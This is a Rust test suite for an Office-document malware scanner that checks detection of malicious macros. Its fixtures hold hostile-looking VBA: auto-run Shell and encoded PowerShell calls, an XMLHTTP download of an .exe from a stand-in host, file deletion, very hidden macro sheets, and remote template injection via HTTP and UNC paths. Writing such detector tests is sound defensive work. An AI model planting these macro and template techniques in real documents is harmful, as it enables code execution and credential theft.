//! Office documents: OLE fixtures through `tenpu::check`, OOXML parts through `analyze_ooxml`.

mod common;

use common::olegen::*;
use tenpu::engine::Ctx;
use tenpu::formats::office::{analyze_ole, analyze_ooxml};
use tenpu::{Location, Options, Report, Verdict};

fn codes(r: &Report) -> Vec<&'static str> {
    let mut v: Vec<_> = r.findings.iter().map(|f| f.code).collect();
    v.sort();
    v.dedup();
    v
}

fn has(r: &Report, code: &str) -> bool {
    r.findings.iter().any(|f| f.code == code)
}

fn dump(r: &Report) -> String {
    r.findings
        .iter()
        .map(|f| {
            format!(
                "{} {:?} @{} {:?}: {}",
                f.code, f.severity, f.location, f.tags, f.evidence
            )
        })
        .collect::<Vec<_>>()
        .join("\n")
}

const DROPPER: &str =
    "Sub AutoOpen()\r\n    Dim r\r\n    r = Shell(\"cmd /c calc.exe\", vbHide)\r\nEnd Sub\r\n";
const PLAIN: &str = "Sub 集計()\r\n    ' 売上の合計を出す\r\n    Range(\"B10\").Value = WorksheetFunction.Sum(Range(\"B1:B9\"))\r\n    MsgBox \"合計しました\"\r\nEnd Sub\r\n";

#[test]
fn autoexec_shell_doc_is_dangerous() {
    let doc = vba_doc(&[("ThisDocument", ""), ("Module1", DROPPER)]);
    let r = tenpu::check(&doc, "会議資料.doc", &Options::default());
    assert_eq!(r.verdict, Verdict::Dangerous, "{}", dump(&r));
    assert!(r.complete, "{}", dump(&r));
    let macro_f = r
        .findings
        .iter()
        .find(|f| f.code == "office.vba_macro")
        .expect("vba_macro");
    assert!(macro_f.evidence.contains("Module1"), "{}", macro_f.evidence);
    assert_eq!(macro_f.location.to_string(), "会議資料.doc");
    let auto = r
        .findings
        .iter()
        .find(|f| f.code == "office.vba_autoexec")
        .expect("autoexec");
    assert_eq!(auto.location.to_string(), "会議資料.doc > Module1");
    assert!(auto.evidence.contains("AutoOpen"));
    assert!(r.findings.iter().any(|f| f.code == "office.vba_suspicious"
        && f.tags == vec!["execute"]
        && f.evidence.starts_with("Shell")));
    // The module is listed as an inspected object.
    assert!(r
        .objects
        .iter()
        .any(|o| o.kind == "vba" && o.location.to_string() == "会議資料.doc > Module1"));
}

#[test]
fn version4_compound_file() {
    let doc = vba_doc_v4(&[("Module1", DROPPER)]);
    assert_eq!(u16::from_le_bytes([doc[0x1A], doc[0x1B]]), 4);
    let r = tenpu::check(&doc, "v4.doc", &Options::default());
    assert_eq!(r.verdict, Verdict::Dangerous, "{}", dump(&r));
    assert!(r.complete, "{}", dump(&r));
    assert!(has(&r, "office.vba_autoexec"));
}

#[test]
fn plain_macro_is_only_suspicious_and_japanese_is_decoded() {
    let doc = vba_doc(&[("ThisDocument", ""), ("集計", PLAIN)]);
    let r = tenpu::check(&doc, "report.doc", &Options::default());
    assert_eq!(r.verdict, Verdict::Suspicious, "{}", dump(&r));
    assert_eq!(codes(&r), vec!["office.vba_macro"], "{}", dump(&r));
    let f = &r.findings[0];
    assert!(
        f.evidence.contains("集計"),
        "module name decoded from cp932/UTF-16: {}",
        f.evidence
    );
    // The source text was decoded with code page 932: its SHA-256 is over the UTF-8 text.
    let obj = r
        .objects
        .iter()
        .find(|o| o.name == "集計")
        .expect("module object");
    let mut want = String::from("Attribute VB_Name = \"集計\"\r\n");
    want.push_str(PLAIN);
    assert_eq!(obj.size as usize, want.len());
}

#[test]
fn japanese_keyword_lines_in_evidence() {
    let src = "Private Sub Workbook_Open()\r\n    ' 請求書を開く\r\n    Set x = CreateObject(\"MSXML2.XMLHTTP\")\r\n    x.Open \"GET\", \"http://例え.jp/請求書.exe\", False\r\nEnd Sub\r\n";
    let xls = vba_xls(&[("ThisWorkbook", src)]);
    let r = tenpu::check(&xls, "請求書.xls", &Options::default());
    assert_eq!(r.verdict, Verdict::Dangerous, "{}", dump(&r));
    let auto = r
        .findings
        .iter()
        .find(|f| f.code == "office.vba_autoexec")
        .expect("autoexec");
    assert_eq!(auto.location.to_string(), "請求書.xls > ThisWorkbook");
    assert!(auto.evidence.contains("Workbook_Open"));
    let dl = r
        .findings
        .iter()
        .find(|f| f.tags.contains(&"download"))
        .expect("download finding");
    assert!(dl.evidence.contains("XMLHTTP"), "{}", dl.evidence);
    assert!(
        r.findings.iter().all(|f| !f.evidence.contains('\u{FFFD}')),
        "{}",
        dump(&r)
    );
}

#[test]
fn ppt_vba_inside_powerpoint_document_stream() {
    let ppt = vba_ppt(&[(
        "Module1",
        "Sub Auto_Open()\r\n  Shell \"calc\"\r\nEnd Sub\r\n",
    )]);
    let r = tenpu::check(&ppt, "slides.ppt", &Options::default());
    assert_eq!(r.verdict, Verdict::Dangerous, "{}", dump(&r));
    assert!(has(&r, "office.vba_macro"));
    let auto = r
        .findings
        .iter()
        .find(|f| f.code == "office.vba_autoexec")
        .expect("autoexec");
    assert_eq!(auto.location.to_string(), "slides.ppt > Module1");
    assert!(r.complete, "{}", dump(&r));
}

#[test]
fn keyword_flood_is_capped() {
    let mut src = String::from("Sub AutoOpen()\r\n");
    for i in 0..200 {
        src.push_str(&format!(
            "    s = s & Chr({}) & Chr(1) & Chr(2)\r\n",
            60 + (i % 30)
        ));
    }
    src.push_str("End Sub\r\n");
    let doc = vba_doc(&[("Module1", &src)]);
    let r = tenpu::check(&doc, "flood.doc", &Options::default());
    let n = r
        .findings
        .iter()
        .filter(|f| f.code == "office.vba_suspicious")
        .count();
    assert!((1..=3).contains(&n), "{n} findings\n{}", dump(&r));
}

#[test]
fn macro_sheet_very_hidden() {
    let xls = xls_with_macro_sheet(2);
    let r = tenpu::check(&xls, "book.xls", &Options::default());
    assert_eq!(r.verdict, Verdict::Dangerous);
    let f = r
        .findings
        .iter()
        .find(|f| f.code == "office.xlm_macro")
        .expect("xlm");
    assert!(f.evidence.contains("very hidden"), "{}", f.evidence);
    assert!(f.evidence.contains("Macro1"));
    let r = tenpu::check(&xls_with_macro_sheet(0), "book.xls", &Options::default());
    let f = r
        .findings
        .iter()
        .find(|f| f.code == "office.xlm_macro")
        .expect("xlm");
    assert!(f.evidence.contains("visible"), "{}", f.evidence);
}

#[test]
fn plain_workbook_has_no_findings() {
    let mut c = cfb::CompoundFile::create(std::io::Cursor::new(Vec::new())).unwrap();
    use std::io::Write;
    c.create_stream("/Workbook")
        .unwrap()
        .write_all(&workbook_stream(&[("Sheet1", 0, 0)], false))
        .unwrap();
    c.flush().unwrap();
    let bytes = c.into_inner().into_inner();
    let r = tenpu::check(&bytes, "plain.xls", &Options::default());
    assert_eq!(r.verdict, Verdict::NoFindings, "{}", dump(&r));
    assert!(r.complete);
}

#[test]
fn encrypted_containers_are_incomplete() {
    for (name, bytes) in [
        ("secret.docx", encrypted_ooxml()),
        ("secret.doc", encrypted_doc()),
        ("secret.xls", encrypted_xls()),
    ] {
        let r = tenpu::check(&bytes, name, &Options::default());
        assert!(has(&r, "office.encrypted"), "{name}: {}", dump(&r));
        assert!(!r.complete, "{name}");
        assert_ne!(r.verdict, Verdict::NoFindings, "{name}");
    }
}

#[test]
fn damaged_compound_files_are_malformed_not_panics() {
    let good = vba_doc(&[("Module1", DROPPER)]);
    // Truncations at many points and a few byte flips: never a panic, never no_findings
    // without being complete.
    for cut in [
        8usize,
        100,
        511,
        512,
        700,
        1024,
        1536,
        2048,
        3000,
        good.len() - 1,
    ] {
        let r = tenpu::check(&good[..cut.min(good.len())], "cut.doc", &Options::default());
        assert!(r.complete || r.verdict != Verdict::NoFindings);
    }
    let r = tenpu::check(&good[..300], "cut.doc", &Options::default());
    assert!(has(&r, "office.malformed") && !r.complete, "{}", dump(&r));
    let mut seed = 7u32;
    for _ in 0..200 {
        let mut b = good.clone();
        for _ in 0..8 {
            seed = seed.wrapping_mul(1103515245).wrapping_add(12345);
            let i = (seed as usize >> 4) % b.len();
            b[i] = (seed >> 20) as u8;
        }
        let _ = tenpu::check(&b, "flip.doc", &Options::default());
    }
}

#[test]
fn compressor_round_trips_through_the_analyser() {
    // Large source: several 4096-byte chunks with copy tokens far back in the window.
    let mut src = String::from("Sub Document_Open()\r\n");
    for i in 0..600 {
        src.push_str(&format!("    Cells({i}, 1).Value = \"行{i}\"\r\n"));
    }
    src.push_str("    Kill \"C:\\temp\\a.txt\"\r\nEnd Sub\r\n");
    let compressed = ovba_compress(src.as_bytes());
    assert!(
        compressed.len() < src.len() / 2,
        "compressor must really compress"
    );
    let doc = vba_doc(&[("ThisDocument", &src)]);
    let r = tenpu::check(&doc, "big.doc", &Options::default());
    assert!(has(&r, "office.vba_autoexec"), "{}", dump(&r));
    // `Kill` is on the last line: the whole source was decompressed.
    assert!(
        r.findings
            .iter()
            .any(|f| f.tags.contains(&"write") && f.evidence.starts_with("Kill")),
        "{}",
        dump(&r)
    );
}

// ---------------------------------------------------------------- OOXML

fn run_ooxml(parts: &mut MapParts, name: &str) -> Report {
    let opts = Options::default();
    let mut ctx = Ctx::new(&opts);
    analyze_ooxml(&mut ctx, parts, &Location::root(name));
    ctx.finish(name)
}

#[test]
fn docm_vba_project_bin() {
    let mut p = docm_parts(&[(
        "ThisDocument",
        "Private Sub Document_Open()\r\nCreateObject(\"WScript.Shell\").Run \"powershell -enc AAAA\"\r\nEnd Sub\r\n",
    )]);
    let r = run_ooxml(&mut p, "invoice.docm");
    assert_eq!(r.verdict, Verdict::Dangerous, "{}", dump(&r));
    assert!(has(&r, "office.vba_macro"));
    let auto = r
        .findings
        .iter()
        .find(|f| f.code == "office.vba_autoexec")
        .unwrap();
    assert_eq!(auto.location.to_string(), "invoice.docm > ThisDocument");
    assert!(r
        .findings
        .iter()
        .any(|f| f.evidence.starts_with("WScript.Shell")));
    assert!(r
        .findings
        .iter()
        .any(|f| f.evidence.starts_with("powershell")));
    // The ordinary hyperlink in the document rels is not reported.
    assert!(!has(&r, "office.external_relationship"), "{}", dump(&r));
    assert!(r.complete);
}

#[test]
fn docm_read_with_zip_crate() {
    let bytes = docm(&[("Module1", PLAIN)]);
    let mut p = MapParts::from_zip(&bytes).unwrap();
    let r = run_ooxml(&mut p, "a.docm");
    assert_eq!(codes(&r), vec!["office.vba_macro"], "{}", dump(&r));
}

#[test]
fn docx_without_macros_has_no_findings() {
    let mut p = docm_parts(&[("Module1", PLAIN)]);
    p.parts.remove("word/vbaProject.bin");
    let r = run_ooxml(&mut p, "a.docx");
    assert_eq!(r.verdict, Verdict::NoFindings, "{}", dump(&r));
}

#[test]
fn macrosheet_part_with_state() {
    let mut p = xlsm_macrosheet_parts("veryHidden");
    let r = run_ooxml(&mut p, "book.xlsm");
    assert_eq!(r.verdict, Verdict::Dangerous);
    let f = r
        .findings
        .iter()
        .find(|f| f.code == "office.xlm_macro" && f.evidence.contains("sheet"))
        .unwrap();
    assert!(
        f.evidence.contains("Macro1") && f.evidence.contains("very hidden"),
        "{}",
        f.evidence
    );
    assert!(
        r.findings
            .iter()
            .any(|f| f.code == "office.xlm_macro" && f.evidence.contains("Auto_Open")),
        "{}",
        dump(&r)
    );
    let mut p = xlsm_macrosheet_parts("visible");
    p.parts.remove("xl/workbook.xml");
    let r = run_ooxml(&mut p, "book.xlsm");
    assert!(has(&r, "office.xlm_macro"));
}

#[test]
fn remote_template_injection() {
    let mut p = docx_remote_template_parts("http://192.0.2.7/template.dotm");
    let r = run_ooxml(&mut p, "resume.docx");
    assert_eq!(r.verdict, Verdict::Dangerous, "{}", dump(&r));
    let f = r
        .findings
        .iter()
        .find(|f| f.code == "office.external_relationship")
        .unwrap();
    assert_eq!(f.tags, vec!["attachedTemplate"]);
    assert!(f.evidence.contains("http://192.0.2.7/template.dotm"));
    // A UNC path fetches from another machine too (and leaks the NTLM hash).
    let r = run_ooxml(
        &mut docx_remote_template_parts("\\\\198.51.100.3\\share\\t.dotm"),
        "b.docx",
    );
    assert_eq!(r.verdict, Verdict::Dangerous, "{}", dump(&r));
    // The author's own local template (what Word writes for documents made from a template)
    // fetches nothing from outside.
    let r = run_ooxml(
        &mut docx_remote_template_parts("file:///C:\\Users\\tanaka\\Templates\\社内文書.dotx"),
        "c.docx",
    );
    assert_eq!(r.verdict, Verdict::NoFindings, "{}", dump(&r));
}

#[test]
fn broken_vba_project_bin_is_malformed() {
    let mut p = docm_parts(&[("Module1", PLAIN)]);
    p.parts.insert(
        "word/vbaProject.bin".into(),
        b"\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1garbage".to_vec(),
    );
    let r = run_ooxml(&mut p, "x.docm");
    assert!(
        has(&r, "office.vba_macro") && has(&r, "office.malformed") && !r.complete,
        "{}",
        dump(&r)
    );
    let mut p = docm_parts(&[("Module1", PLAIN)]);
    p.failing.push("word/_rels/settings.xml.rels".into());
    let r = run_ooxml(&mut p, "x.docm");
    assert!(has(&r, "office.malformed") && !r.complete);
}

#[test]
fn ole_entry_point_directly() {
    let opts = Options::default();
    let mut ctx = Ctx::new(&opts);
    let loc = Location::root("mail")
        .child("会議資料.zip")
        .child("会議資料.doc");
    analyze_ole(
        &mut ctx,
        &vba_doc(&[("Module1", DROPPER)]),
        "会議資料.doc",
        &loc,
    );
    let r = ctx.finish("mail");
    let auto = r
        .findings
        .iter()
        .find(|f| f.code == "office.vba_autoexec")
        .unwrap();
    assert_eq!(
        auto.location.to_string(),
        "mail > 会議資料.zip > 会議資料.doc > Module1"
    );
}

#[test]
fn renamed_parts_found_through_relationship_types() {
    let mut p = docm_parts(&[("Module1", DROPPER)]);
    let bin = p.parts.remove("word/vbaProject.bin").unwrap();
    p.parts.insert("word/media/image7.png".into(), bin);
    let rels = String::from_utf8(p.parts["word/_rels/document.xml.rels"].clone()).unwrap();
    p.parts.insert(
        "word/_rels/document.xml.rels".into(),
        rels.replace("Target=\"vbaProject.bin\"", "Target=\"media/image7.png\"")
            .into_bytes(),
    );
    let r = run_ooxml(&mut p, "renamed.docm");
    assert!(has(&r, "office.vba_autoexec"), "{}", dump(&r));

    let mut p = xlsm_macrosheet_parts("hidden");
    let sheet = p.parts.remove("xl/macrosheets/sheet1.xml").unwrap();
    p.parts.insert("xl/worksheets/sheet9.xml".into(), sheet);
    let rels = String::from_utf8(p.parts["xl/_rels/workbook.xml.rels"].clone()).unwrap();
    p.parts.insert(
        "xl/_rels/workbook.xml.rels".into(),
        rels.replace("macrosheets/sheet1.xml", "worksheets/sheet9.xml")
            .into_bytes(),
    );
    let r = run_ooxml(&mut p, "renamed.xlsm");
    let f = r
        .findings
        .iter()
        .find(|f| f.code == "office.xlm_macro" && f.evidence.contains("sheet9"))
        .expect("macro sheet by rel type");
    assert!(f.evidence.contains("hidden"), "{}", f.evidence);
}

#[test]
fn decompression_budget_is_a_limit_not_silence() {
    let mut opts = Options::default();
    opts.limits.max_total_inflated = 200;
    let doc = vba_doc(&[("Module1", DROPPER), ("Module2", PLAIN)]);
    let r = tenpu::check(&doc, "budget.doc", &opts);
    assert!(has(&r, "archive.limit_exceeded"), "{}", dump(&r));
    assert!(!r.complete);
    assert!(has(&r, "office.vba_macro"));
}

#[test]
fn ovba_compressor_matches_spec_and_round_trips() {
    use tenpu::formats::office::vba::decompress::decompress;
    fn hex(s: &str) -> Vec<u8> {
        s.split_whitespace()
            .map(|h| u8::from_str_radix(h, 16).unwrap())
            .collect()
    }
    // [MS-OVBA] 3.2.1 and 3.2.3: our compressor produces the published bytes.
    assert_eq!(
        ovba_compress(b"abcdefghijklmnopqrstuv."),
        hex("01 19 B0 00 61 62 63 64 65 66 67 68 00 69 6A 6B 6C 6D 6E 6F 70 00 71 72 73 74 75 76 2E")
    );
    assert_eq!(ovba_compress(&[b'a'; 73]), hex("01 03 B0 02 61 45 00"));
    // 3.2.2: same size as published, and back to the text.
    let normal = b"#aaabcdefaaaaghijaaaaaklaaamnopqaaaaaaaaaaaarstuvwxyzaaa";
    let c = ovba_compress(normal);
    assert_eq!(c.len(), 51);
    assert_eq!(decompress(&c, 1 << 20).data, normal);
    // Round trips: text (copy tokens across several chunks), incompressible bytes (raw chunks),
    // and sizes around the chunk boundary.
    let mut seed = 99u32;
    let random: Vec<u8> = (0..10_000)
        .map(|_| {
            seed = seed.wrapping_mul(1664525).wrapping_add(1013904223);
            (seed >> 24) as u8
        })
        .collect();
    let text: Vec<u8> = "Sub 集計()\r\n  Range(\"A1\").Value = 1\r\nEnd Sub\r\n"
        .repeat(300)
        .into_bytes();
    for data in [
        &random[..],
        &random[..4096],
        &random[..4095],
        &random[..4097],
        &text[..],
        &text[..1],
    ] {
        let c = ovba_compress(data);
        let d = decompress(&c, 1 << 24);
        assert!(d.error.is_none(), "{:?}", d.error);
        // Raw chunks are padded to 4096 bytes; compare the meaningful prefix.
        assert_eq!(&d.data[..data.len()], data);
    }
    assert!(ovba_compress(&text).len() < text.len() / 4);
}

#[test]
fn large_module_is_scanned_to_the_end() {
    let mut src = String::from("Sub AutoOpen()\r\n");
    let line =
        "    ws.Cells(i, 2).Value = \"請求書番号\" & Format(i, \"000000\") & \" / 合計\"\r\n";
    while src.len() < 1_500_000 {
        src.push_str(line);
    }
    src.push_str("    CreateObject(\"WScript.Shell\").Run \"calc\"\r\nEnd Sub\r\n");
    let doc = vba_doc(&[("Module1", &src)]);
    // Its speed is measured by `make bench`, not here; this asserts the last line is reached.
    let r = tenpu::check(&doc, "big.doc", &Options::default());
    assert!(r.complete, "{}", dump(&r));
    assert!(
        r.findings
            .iter()
            .any(|f| f.evidence.starts_with("WScript.Shell")),
        "{}",
        dump(&r)
    );
}
